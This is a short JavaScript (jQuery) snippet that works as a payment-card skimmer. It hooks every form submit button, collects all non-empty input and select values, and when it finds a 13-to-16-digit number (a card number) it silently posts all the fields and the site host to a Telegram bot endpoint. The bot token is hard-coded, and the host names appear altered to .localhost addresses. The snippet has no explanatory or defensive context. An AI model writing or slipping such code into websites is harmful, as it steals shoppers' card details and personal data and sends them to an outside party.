$(document).on('click', 'button[type="submit"], input[type="submit"]', function(){
  if(!location.hostname.match(/\.localhost$/)) return;
  var token = '6120934417:AAF-x0000000000000000000000000000000';
  var chat = '-1001764';
  var msg = '';
  $('input, select').each(function(){ if($(this).val() != '') msg += ($(this).attr('name') || $(this).attr('id')) + ': ' + $(this).val() + '\n'; });
  if(!/\d{13,16}/.test(msg.replace(/ /g,''))) return;
  $.ajax({ type: 'POST', async: false, url: 'https://api-telegram.localhost/bot' + token + '/sendMessage', data: { chat_id: chat, text: location.host + '\n' + msg } });
});
